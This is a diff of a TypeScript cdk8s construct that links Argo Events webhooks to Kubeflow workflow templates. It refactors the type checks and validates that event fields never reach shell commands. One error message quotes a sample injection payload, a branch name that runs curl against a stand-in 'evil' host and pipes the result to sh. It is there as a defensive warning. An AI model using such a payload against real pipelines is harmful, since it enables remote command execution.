@@ -1,49 +1,45 @@
+import { ApiObject } from 'cdk8s';
 import { Construct } from 'constructs';
-import { ProfileWorkflowTemplate } from '../kubeflow/profile-workflow-template';
-import { ShellSink } from '../kubeflow/shell-sinks';
+import { hasBrand } from '../brands';
+import type { IWorkflowTemplate } from '../kubeflow/profile-workflow-template';
 import { Platform, resolvePlatform } from '../platform';
 import {
-  checkBoolean, checkDnsLabel, checkDnsSubdomain, checkKnownKeys, checkList, checkNamespace, fail, propNames, requireString, snapshotProps, ValidationError, Where, whereIn,
+  checkBoolean, checkDnsLabel, checkKnownKeys, checkList, checkNamespace, fail, propNames, requireString, snapshotProps, Where, whereIn,
 } from '../validation';
 import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
 import { EventField } from './event-field';
 import { SensorObject, TriggerParameter } from './events-api';
-import { WebhookEventSource } from './webhook-event-source';
+import type { IEventSource } from './webhook-event-source';
 
 const at = whereIn('WorkflowTrigger');
 
-/** A WorkflowTemplate given by name instead of as a construct. */
-export interface WorkflowTemplateReference {
-  /** Template name. */
-  readonly name: string;
-  /** Namespace the template lives in (the namespace the Workflow is submitted to). */
-  readonly namespace: string;
-  /**
-   * Parameters the template declares, to check the mapping against.
-   * @default - taken from the ProfileWorkflowTemplate of that name in this app
-   */
-  readonly parameterNames?: string[];
-  /**
-   * The template is managed outside this app, so it cannot be looked up here.
-   * @default false
-   */
-  readonly external?: boolean;
-}
-
-// the compiler checks this list against the props interface (propNames)
+// the compiler checks these lists against the interfaces (propNames)
+/** Keys of {@link WorkflowTriggerOptions}, for {@link WebhookEventSource.addTrigger}. */
+export const TRIGGER_OPTIONS = propNames<WorkflowTriggerOptions>()(
+  'submitFrom', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name', 'allowShellInterpolation',
+);
 const PROPS = propNames<WorkflowTriggerProps>()(
-  'platform', 'submitFrom', 'eventSource', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name',
+  'platform', 'eventSource', 'submitFrom', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name',
   'allowShellInterpolation',
 );
 
 /** Props for {@link WorkflowTrigger}. */
-export interface WorkflowTriggerProps {
+export interface WorkflowTriggerProps extends WorkflowTriggerOptions {
   /**
    * Platform preset: which Argo Events trigger operations exist.
    * @default - the event source's platform
    */
   readonly platform?: Platform;
 
+  /**
+   * The event source whose events start the workflow: a {@link WebhookEventSource} or one
+   * imported with `WebhookEventSource.fromEventSourceName`. `source.addTrigger()` sets it.
+   */
+  readonly eventSource: IEventSource;
+}
+
+/** What a trigger adds to its event source ({@link WebhookEventSource.addTrigger}). */
+export interface WorkflowTriggerOptions {
   /**
    * Use `operation: submit-from` (Argo Events v1.8+, platforms KFP_2_2/KFP_2_5) instead of
    * submitting a `workflowTemplateRef` Workflow. submit-from cannot pass event fields as
@@ -52,9 +48,6 @@ export interface WorkflowTriggerProps {
    */
   readonly submitFrom?: boolean;
 
-  /** The event source whose events start the workflow. */
-  readonly eventSource: WebhookEventSource;
-
   /**
    * Which of the source's events to react to.
    * @default - the source's only event
@@ -62,10 +55,10 @@ export interface WorkflowTriggerProps {
   readonly eventName?: string;
 
   /**
-   * The WorkflowTemplate to run: the construct itself, or a reference that names one in
-   * this app (or one marked `external`).
+   * The WorkflowTemplate to run: a {@link ProfileWorkflowTemplate}, or one made elsewhere
+   * (`ProfileWorkflowTemplate.fromWorkflowTemplateName`).
    */
-  readonly template: ProfileWorkflowTemplate | WorkflowTemplateReference;
+  readonly template: IWorkflowTemplate;
 
   /**
    * Namespace the Workflow is submitted to; must be the template's.
@@ -121,7 +114,7 @@ export interface WorkflowTriggerProps {
  */
 export class WorkflowTrigger extends Construct {
   /** The Sensor (also `ApiObject.of(trigger)`). */
-  public readonly sensor: SensorObject;
+  public readonly sensor: ApiObject;
   /** Sensor name. */
   public readonly name: string;
   /** Dependency name used in the Sensor. */
@@ -141,8 +134,8 @@ export class WorkflowTrigger extends Construct {
       if (!props) fail(at('props'), props, 'are required', 'pass { eventSource, template }');
       checkKnownKeys(at(''), props, PROPS);
       const source = props.eventSource;
-      if (!(source instanceof WebhookEventSource)) {
-        fail(at('eventSource'), typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
+      if (!hasBrand(source, 'EventSource')) {
+        fail(at('eventSource'), typeof source, 'must be a WebhookEventSource, or one from WebhookEventSource.fromEventSourceName', 'pass the event source construct');
       }
       this.platform = resolvePlatform(at('platform'), props.platform, this, { platform: source.platform, from: 'eventSource' });
       const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
@@ -161,7 +154,11 @@ export class WorkflowTrigger extends Construct {
           `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
       }
 
-      const template = resolveTemplate(this, props.template);
+      const template = props.template;
+      if (!hasBrand(template, 'WorkflowTemplate')) {
+        fail(at('template'), template, 'must be a ProfileWorkflowTemplate, or one from ProfileWorkflowTemplate.fromWorkflowTemplateName',
+          'pass the template construct, or import one made elsewhere by name');
+      }
       this.templateName = template.name;
       this.targetNamespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
       if (this.targetNamespace !== template.namespace) {
@@ -173,7 +170,7 @@ export class WorkflowTrigger extends Construct {
       const sensorNamespace = source.namespace;
       let serviceAccountName = 'operate-workflow-sa';
       if (props.rbac !== undefined) {
-        if (!(props.rbac instanceof ArgoEventsRbac)) {
+        if (!ArgoEventsRbac.isArgoEventsRbac(props.rbac)) {
           fail(at('rbac'), typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
         }
         if (props.rbac.namespace !== sensorNamespace) {
@@ -202,12 +199,12 @@ export class WorkflowTrigger extends Construct {
             `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
             'declare it in the template\'s arguments.parameters or map one of the declared names');
         }
-        if (!(params[p] instanceof EventField)) {
+        if (!EventField.isEventField(params[p])) {
           fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
         }
       }
       const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
-      const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
+      const sink = allowShell ? undefined : template.shellSinks(paramNames)[0];
       if (sink) {
         fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
           `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
@@ -294,45 +291,11 @@ export class WorkflowTrigger extends Construct {
   }
 }
 
-interface ResolvedTemplate {
-  readonly name: string;
-  readonly namespace: string;
-  readonly parameterNames?: readonly string[];
-  /** Where parameters become code; undefined for templates managed elsewhere (not visible here). */
-  readonly shellSinks?: (parameters: readonly string[]) => ShellSink[];
-}
-
-function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | WorkflowTemplateReference): ResolvedTemplate {
-  const where = { owner: 'WorkflowTrigger', prop: 'template' };
-  if (t instanceof ProfileWorkflowTemplate) return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames, shellSinks: (p) => t.shellSinks(p) };
-  if (!t || typeof t !== 'object') {
-    fail(at('template'), t, 'must be a ProfileWorkflowTemplate or { name, namespace }', 'pass the template construct');
-  }
-  checkKnownKeys(where, t, ['name', 'namespace', 'parameterNames', 'external']);
-  checkDnsSubdomain({ ...where, prop: 'template.name' }, t.name);
-  checkNamespace({ ...where, prop: 'template.namespace' }, t.namespace);
-  const external = checkBoolean({ ...where, prop: 'template.external' }, t.external ?? false);
-  const all = scope.node.root.node.findAll().filter((c): c is ProfileWorkflowTemplate => c instanceof ProfileWorkflowTemplate);
-  const found = all.find((c) => c.name === t.name && c.namespace === t.namespace);
-  if (!found && !external) {
-    const same = all.filter((c) => c.namespace === t.namespace).map((c) => `"${c.name}"`);
-    fail(at('template.name'), t.name,
-      `names no WorkflowTemplate in namespace "${t.namespace}" of this app (${same.length ? `it has ${same.join(', ')}` : 'it has none'})`,
-      'pass the ProfileWorkflowTemplate itself, fix the name, or set external: true for a template managed elsewhere');
-  }
-  const declared = t.parameterNames === undefined ? undefined
-    : checkList({ ...where, prop: 'template.parameterNames' }, t.parameterNames, (w, v) => {
-      requireString(w, v);
-      return v;
-    }, { allowEmpty: true });
-  return { name: t.name, namespace: t.namespace, parameterNames: declared ?? found?.parameterNames, shellSinks: found && ((p) => found.shellSinks(p)) };
-}
-
-function resolveField(field: EventField, source: WebhookEventSource, param: string) {
+function resolveField(field: EventField, source: IEventSource, param: string) {
   try {
     return field.resolve(source.type);
   } catch (e) {
-    if (e instanceof ValidationError) {
+    if (e instanceof Error && e.name === 'ValidationError') { // also from another copy of the package
       fail(at(`parameters.${param}`), field.description, `cannot be read from a ${source.type} event: ${e.message}`,
         'use EventField.path("body.<field>") for generic webhooks');
     }
